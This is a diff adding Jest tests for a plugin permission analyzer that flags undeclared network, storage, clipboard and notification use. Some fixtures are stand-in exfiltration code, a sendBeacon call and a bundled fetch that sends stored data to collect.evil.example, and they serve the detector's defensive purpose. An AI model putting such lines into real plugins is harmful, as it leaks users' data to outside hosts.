@@ -0,0 +1,158 @@
+import { PermissionAnalyzer } from './permission-analyzer.service';
+import { PermissionFindingType } from '../common/enums/permission-finding.enum';
+
+describe('PermissionAnalyzer', () => {
+  const analyzer = new PermissionAnalyzer();
+
+  const findings = (source: string, permissions: string[]) =>
+    analyzer.analyze('plugin.js', source, permissions)?.findings.map((f) => [f.type, f.permission]);
+
+  it('should report no findings when the code stays within its permissions', () => {
+    const source = `
+      const API = 'https://api.acme.com/v1';
+      export async function onLoad(api) {
+        const cached = await api.storage.get('tasks');
+        const res = await fetch(\`\${API}/tasks\`);
+        return cached || res.json();
+      }
+    `;
+
+    const analysis = analyzer.analyze('plugin.js', source, ['network:https://api.acme.com', 'storage:read']);
+
+    // The template's host is only known through the API constant, so the call itself counts as plain network use
+    expect(analysis).toEqual({
+      detected: ['network', 'network:https://api.acme.com', 'storage:read'],
+      findings: [],
+    });
+  });
+
+  it('should report undeclared network targets at their first use', () => {
+    const analysis = analyzer.analyze(
+      'plugin.js',
+      'fetch("https://api.acme.com/tasks");\nnavigator.sendBeacon("https://collect.evil.example/t", data);',
+      ['network:https://api.acme.com'],
+    );
+
+    expect(analysis?.findings).toEqual([
+      {
+        type: PermissionFindingType.UNDECLARED_CAPABILITY,
+        permission: 'network:https://collect.evil.example',
+        message: 'Connects to https://collect.evil.example without a matching network permission',
+        file: 'plugin.js',
+        line: 2,
+        column: 21,
+      },
+    ]);
+  });
+
+  it('should pick up URLs in XHR, WebSocket and plain string literals', () => {
+    const source = `
+      const xhr = new XMLHttpRequest();
+      xhr.open('GET', 'https://a.example/data');
+      const ws = new WebSocket('wss://b.example/socket');
+      const docs = 'See https://c.example/help for details';
+    `;
+
+    expect(analyzer.analyze('plugin.js', source, [])?.detected).toEqual([
+      'network:https://a.example',
+      'network:https://c.example',
+      'network:wss://b.example',
+    ]);
+  });
+
+  it('should match declared paths, subdomain wildcards and WebSocket schemes', () => {
+    const source = `
+      fetch('https://api.acme.com/v1/tasks');
+      fetch('https://eu.cdn.acme.com/logo.png');
+      new WebSocket('wss://api.acme.com/v1/live');
+      fetch('https://api.acme.com/v2/tasks');
+    `;
+
+    expect(findings(source, ['network:https://api.acme.com/v1', 'network:https://*.cdn.acme.com'])).toEqual([
+      [PermissionFindingType.UNDECLARED_CAPABILITY, 'network:https://api.acme.com'],
+    ]);
+  });
+
+  it('should treat computed targets as plain network use', () => {
+    const source = 'fetch(endpoint); xhr.open("POST", url);';
+
+    expect(analyzer.analyze('plugin.js', source, [])).toEqual({
+      detected: ['network'],
+      findings: [
+        expect.objectContaining({
+          type: PermissionFindingType.UNDECLARED_CAPABILITY,
+          permission: 'network',
+          message: 'Makes network requests to a computed URL without any network permission',
+        }),
+      ],
+    });
+    expect(findings(source, ['network:https://api.acme.com'])).toEqual([]);
+  });
+
+  it('should distinguish storage reads from writes', () => {
+    const source = 'localStorage.setItem("k", v); api.storage.remove("x"); sessionStorage.getItem("y");';
+
+    expect(findings(source, ['storage:read'])).toEqual([
+      [PermissionFindingType.UNDECLARED_CAPABILITY, 'storage:write'],
+    ]);
+    expect(findings(source, ['storage'])).toEqual([]);
+  });
+
+  it('should detect clipboard and notification use', () => {
+    const source = `
+      await navigator.clipboard.writeText(summary);
+      new Notification('Done');
+    `;
+
+    expect(findings(source, ['clipboard:read'])).toEqual([
+      [PermissionFindingType.UNDECLARED_CAPABILITY, 'clipboard:write'],
+      [PermissionFindingType.UNDECLARED_CAPABILITY, 'notifications'],
+      [PermissionFindingType.UNUSED_PERMISSION, 'clipboard:read'],
+    ]);
+  });
+
+  it('should report unused permissions but leave unknown families alone', () => {
+    const source = 'api.storage.get("tasks");';
+
+    expect(
+      findings(source, ['storage:read', 'storage:write', 'network:https://api.acme.com', 'camera']),
+    ).toEqual([
+      [PermissionFindingType.UNUSED_PERMISSION, 'storage:write'],
+      [PermissionFindingType.UNUSED_PERMISSION, 'network:https://api.acme.com'],
+    ]);
+  });
+
+  it('should return null for code that cannot be parsed', () => {
+    expect(analyzer.analyze('plugin.js', 'function (', [])).toBeNull();
+  });
+
+  it('should analyze bundled modules together with the entry point', () => {
+    const analysis = analyzer.analyzeFiles(
+      new Map([
+        ['plugin.js', "import { send } from './lib/net.mjs';\napi.storage.get('tasks').then(send);"],
+        ['lib/net.mjs', 'export const send = (data) =>\n  fetch("https://collect.evil.example/t", { body: data });'],
+        ['lib/broken.js', 'function ('],
+      ]),
+      ['storage:read', 'network:https://api.acme.com'],
+    );
+
+    expect(analysis).toEqual({
+      detected: ['network:https://collect.evil.example', 'storage:read'],
+      findings: [
+        {
+          type: PermissionFindingType.UNDECLARED_CAPABILITY,
+          permission: 'network:https://collect.evil.example',
+          message: 'Connects to https://collect.evil.example without a matching network permission',
+          file: 'lib/net.mjs',
+          line: 2,
+          column: 8,
+        },
+        {
+          type: PermissionFindingType.UNUSED_PERMISSION,
+          permission: 'network:https://api.acme.com',
+          message: "Permission 'network:https://api.acme.com' is declared but never used",
+        },
+      ],
+    });
+  });
+});